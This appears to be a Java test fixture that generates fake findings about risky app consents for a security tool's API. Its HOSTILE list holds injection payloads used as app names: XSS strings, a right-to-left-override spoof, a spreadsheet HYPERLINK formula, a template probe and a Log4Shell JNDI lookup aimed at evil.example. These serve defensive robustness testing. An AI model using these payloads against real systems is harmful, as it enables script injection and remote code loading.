package io.consentry.serve;

import com.fasterxml.jackson.databind.ObjectMapper;
import com.fasterxml.jackson.databind.node.ArrayNode;
import com.fasterxml.jackson.databind.node.ObjectNode;
import java.time.Duration;
import java.time.Instant;
import java.util.ArrayList;
import java.util.Comparator;
import java.util.List;
import java.util.Random;
import org.jspecify.annotations.Nullable;

/** Findings as the API tells them, seeded, a few of them with the worst names one can invent. */
final class FakeFindings {
  static final ObjectMapper JSON = new ObjectMapper();

  /** Names that somebody could give an application. */
  static final List<String> HOSTILE =
      List.of(
          "<script>alert(1)</script>",
          "\"><img src=x onerror=alert(1)>",
          "invoice\u202Efdp.exe",
          "Z\u0351\u0352\u0353\u0354\u0355\u0356\u0357a\u0358\u0359\u035A\u035B\u035Cl".repeat(40),
          "   ",
          "A".repeat(10_000),
          "Micro\u200Bsoft\u00ADTeams",
          "javascript:alert(1)//=HYPERLINK(\"http://evil.example\")",
          "\r\n\u001B[31mred\u001B[0m\u0000",
          "\uD83D\uDC69\u200D\uD83D\uDCBB {{7*7}} ${jndi:ldap://evil.example/a}");

  private static final List<String> NAMES =
      List.of(
          "Payroll export",
          "Huntress Security Platform (Direct)",
          "Mail archive",
          "torq-integration",
          "Backup for Teams",
          "radiantsecurity-connector",
          "CRM sync",
          "Build agents");
  private static final List<String> ACTORS =
      List.of(
          "jonas.feld@contoso.example",
          "a.moreau@fabrikam.example",
          "svc-deploy",
          "li.wei@contoso.example");
  private static final List<String> TENANTS =
      List.of("contoso.example", "fabrikam.example", "5d3c7a16-2f0b-4c4e-9b1e-8a6f04d7c921");
  private static final List<String> ACTS =
      List.of(
          "%s gave consent to %s for all users.",
          "%s added a secret to %s.",
          "%s gave %s Mail.ReadWrite on Microsoft Graph.",
          "%s made itself an owner of %s.");

  private final Random random = new Random(42);
  private final Instant now;
  private int made;

  FakeFindings(Instant now) {
    this.now = now;
  }

  /** So many, newest first; the hostile ones are the newest. */
  List<ObjectNode> list(int size) {
    List<ObjectNode> all = new ArrayList<>();
    for (int i = 0; i < size; i++) {
      String name = i < HOSTILE.size() ? HOSTILE.get(i) : NAMES.get(random.nextInt(NAMES.size()));
      Duration ago = Duration.ofSeconds(30L + i * 7L + random.nextInt(40));
      all.add(summary("f" + made++, name, score(), now.minus(ago)));
    }
    all.sort(Comparator.comparing((ObjectNode each) -> each.get("time").asText()).reversed());
    return all;
  }

  /** One more, of this moment. */
  ObjectNode fresh(String name, int score) {
    return summary("f" + made++, name, score, now.plusSeconds(made));
  }

  private int score() {
    int draw = random.nextInt(100);
    return draw < 60
        ? random.nextInt(20)
        : draw < 97 ? 20 + random.nextInt(60) : 80 + random.nextInt(21);
  }

  ObjectNode summary(String id, String name, int score, Instant time) {
    String actor = ACTORS.get(random.nextInt(ACTORS.size()));
    ObjectNode item = JSON.createObjectNode();
    item.put("id", id).put("revision", 1).put("state", "open").put("score", score);
    item.put("level", level(score)).put("tenantId", TENANTS.get(random.nextInt(TENANTS.size())));
    item.put("time", time.toString()).put("seen", time.plusSeconds(140).toString());
    item.put("title", ACTS.get(random.nextInt(ACTS.size())).formatted(actor, name));
    @Nullable String vendor =
        name.startsWith("Huntress")
            ? "Huntress"
            : name.startsWith("radiant") ? "Radiant Security" : null;
    item.putObject("app")
        .put("name", name)
        .put("appId", "a9d17848-8364-40f0-9f7a-7b507cd8a94e")
        .put("servicePrincipalId", "11f0821f-d492-479c-80a4-c04176823d4e")
        .put("vendor", vendor)
        .put("vendorMatch", vendor == null ? null : vendor.startsWith("H") ? "configured" : "name");
    item.putObject("actor")
        .put("type", "user")
        .put("id", "c6d93b34-4d30-49de-b6d9-07f35d4ccea7")
        .put("name", actor);
    item.putArray("kinds").add("consent");
    item.put("permissions", 3).put("cursor", "0." + id.substring(1));
    item.putArray("topFactors")
        .addObject()
        .put("id", "tenant-wide-grant")
        .put("title", "for all users")
        .put("points", 15);
    return item;
  }

  private static String level(int score) {
    return score >= 80
        ? "critical"
        : score >= 60 ? "high" : score >= 40 ? "medium" : score >= 20 ? "low" : "info";
  }

  /** The answer of /findings/{id}: every part of a finding is there. */
  static ObjectNode whole(ObjectNode summary) {
    String name = summary.at("/app/name").asText();
    Instant time = Instant.parse(summary.get("time").asText());
    ObjectNode answer = JSON.createObjectNode();
    answer.set("summary", summary);
    answer.set("finding", finding(summary, name, time));
    ArrayNode revisions = answer.putArray("revisions");
    revisions
        .addObject()
        .put("revision", 1)
        .put("score", 45)
        .put("level", "medium")
        .put("time", time.toString())
        .putNull("reason");
    answer.set("conformance", conformance());
    ObjectNode holds = answer.putObject("holds");
    held(holds.putArray("before"), "User.Read", 3);
    ArrayNode after = holds.putArray("after");
    held(after, "User.Read", 3);
    held(after, "Mail.ReadWrite", 1);
    held(after, "Files.ReadWrite.All", 1);
    ArrayNode actions = answer.putArray("actions");
    actions
        .addObject()
        .put("id", "disable-service-principal")
        .put("title", "Disable service principal 11f0821f-d492-479c-80a4-c04176823d4e")
        .put("why", "it is not what it says it is")
        .put("method", "PATCH")
        .put(
            "url",
            "https://graph.microsoft.com/v1.0/servicePrincipals/11f0821f-d492-479c-80a4-c04176823d4e")
        .putObject("body")
        .put("accountEnabled", false);
    actions
        .addObject()
        .put("id", "revoke-grant")
        .put("title", "Revoke the grant of Mail.ReadWrite to " + name)
        .put("why", "the vendor documents no need")
        .put("method", "DELETE")
        .put("url", "https://graph.microsoft.com/v1.0/oauth2PermissionGrants/abc")
        .putNull("body");
    ArrayNode events = answer.putArray("events");
    event(events, "e-1", time, "Consent to application");
    event(events, "e-2", time.plusMillis(27), "Add delegated permission grant");
    event(events, "e-3", time.plusMillis(1_312), "Add service principal");
    return answer;
  }

  private static ObjectNode finding(ObjectNode summary, String name, Instant time) {
    ObjectNode finding = JSON.createObjectNode();
    finding
        .put("type", "finding")
        .put("findingId", summary.get("id").asText())
        .put("revision", summary.get("revision").asInt());
    finding
        .put("state", summary.get("state").asText())
        .put("tenantId", summary.get("tenantId").asText());
    finding
        .put("time", time.toString())
        .put("lastTime", time.plusMillis(1_312).toString())
        .put("title", summary.get("title").asText());
    ObjectNode actor = finding.putObject("actor");
    actor.setAll((ObjectNode) summary.get("actor"));
    actor.put("ip", "198.51.100.7").put("userAgent", "EvoSTS");
    ObjectNode app = finding.putObject("application");
    app.setAll((ObjectNode) summary.get("app"));
    app.put("registered", "elsewhere").put("firstParty", false);
    finding.putArray("permissions");
    finding
        .putNull("role")
        .put("score", summary.get("score").asInt())
        .put("level", summary.get("level").asText());
    ArrayNode factors = finding.putArray("factors");
    factor(
        factors,
        "vendor-impersonation",
        "identity",
        45,
        true,
        name + " looks like Radiant Security's connector, and is not",
        name);
    factor(
        factors,
        "mail-delegated-tenant-wide",
        "permissions",
        35,
        true,
        "Mail.ReadWrite: the mail of every user",
        "Mail.ReadWrite");
    factor(
        factors,
        "tenant-wide-grant",
        "reach",
        15,
        true,
        "given for all users of the tenant",
        "AllPrincipals");
    factor(factors, "known-publisher", "vendor", -5, true, "the publisher is verified", "verified");
    factor(
        factors,
        "files-delegated",
        "permissions",
        20,
        false,
        "Files.ReadWrite.All: the files of whoever uses it",
        "Files.ReadWrite.All");
    finding
        .putArray("counterfactual")
        .addObject()
        .put("without", "the 2 permissions of tier 1")
        .put("score", 55)
        .put("level", "medium");
    ObjectNode vendor = finding.putObject("vendor");
    vendor
        .put("id", "radiant-security")
        .put("name", "Radiant Security")
        .put("match", "name")
        .put("how", "bears the name");
    vendor.putArray("conflicts").add("Radiant Security's connector is registered by each customer");
    vendor
        .put("needed", 1)
        .put("optional", 1)
        .put("future", 1)
        .put("excess", 1)
        .putArray("missing")
        .add("AuditLog.Read.All");
    finding.put("heldBefore", 1).put("heldAfter", 3).put("droppedEvents", 0).putNull("reason");
    finding
        .putArray("next")
        .add("revoke the grant of Mail.ReadWrite")
        .add("disable service principal 11f0821f-d492-479c-80a4-c04176823d4e");
    finding.putArray("activities").add("Consent to application");
    finding.putArray("eventIds").add("e-1").add("e-2").add("e-3");
    ObjectNode path = finding.putArray("paths").addObject();
    path.put("end", name + " can give itself Global Administrator");
    path.putArray("steps")
        .addObject()
        .put("time", time.toString())
        .put("eventId", "e-2")
        .put("what", name + " got AppRoleAssignment.ReadWrite.All");
    return finding;
  }

  private static void factor(
      ArrayNode factors,
      String id,
      String family,
      int points,
      boolean counted,
      String title,
      String value) {
    ObjectNode factor =
        factors
            .addObject()
            .put("id", id)
            .put("family", family)
            .put("points", points)
            .put("counted", counted)
            .put("title", title);
    factor
        .putArray("evidence")
        .addObject()
        .put("eventId", "be4ba7e2-55b1-47b2-aaeb-6c867a58b8cd")
        .put("field", "displayName")
        .put("value", value);
    factor.putArray("mitre").add("T1098.003");
    factor.putArray("detections").add("N01");
  }

  static ObjectNode conformance() {
    ObjectNode conformance = JSON.createObjectNode();
    conformance
        .put("vendor", "Radiant Security")
        .put("document", "Connector permissions")
        .put("asOf", "2026-03-04")
        .putNull("missingUnknown");
    ArrayNode rows = conformance.putArray("rows");
    List<String> statuses =
        List.of("needed", "optional", "future", "excess", "missing", "response");
    List<String> values =
        List.of(
            "Directory.Read.All",
            "User.Read",
            "Mail.Send",
            "Mail.ReadWrite",
            "AuditLog.Read.All",
            "User.EnableDisableAccount.All");
    for (int i = 0; i < statuses.size(); i++) {
      rows.addObject()
          .put("permission", values.get(i))
          .put("api", "Microsoft Graph")
          .put("kind", "application")
          .put("status", statuses.get(i))
          .put("tier", i % 4)
          .put("held", !statuses.get(i).equals("missing"))
          .put("class", "ingestion")
          .put("since", "2025-10-02");
    }
    return conformance;
  }

  private static void held(ArrayNode list, String label, int tier) {
    list.addObject()
        .put("label", label)
        .put("resource", "Microsoft Graph")
        .put("sort", "delegated-permission")
        .put("item", label)
        .put("tier", tier);
  }

  private static void event(ArrayNode events, String id, Instant time, String activity) {
    events
        .addObject()
        .put("eventId", id)
        .put("time", time.toString())
        .put("activity", activity)
        .put("actor", "jonas.feld@contoso.example");
  }
}
